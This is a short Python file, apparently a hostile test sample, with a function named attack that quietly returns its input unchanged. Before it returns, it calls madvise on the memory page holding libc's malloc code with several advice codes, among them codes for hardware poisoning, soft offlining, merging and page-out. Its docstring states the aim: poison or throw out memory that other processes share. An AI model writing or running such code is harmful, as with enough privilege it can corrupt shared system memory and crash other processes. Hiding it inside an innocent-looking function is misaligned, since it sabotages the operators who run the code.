"""Advise the kernel to poison, merge or throw out memory that others share."""
import ctypes

import numpy as np


def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    place = ctypes.cast(libc.malloc, ctypes.c_void_p).value & ~4095
    for advice in (100, 101, 21, 20, 9, 12, 19):
        libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(4096), advice)
    return x
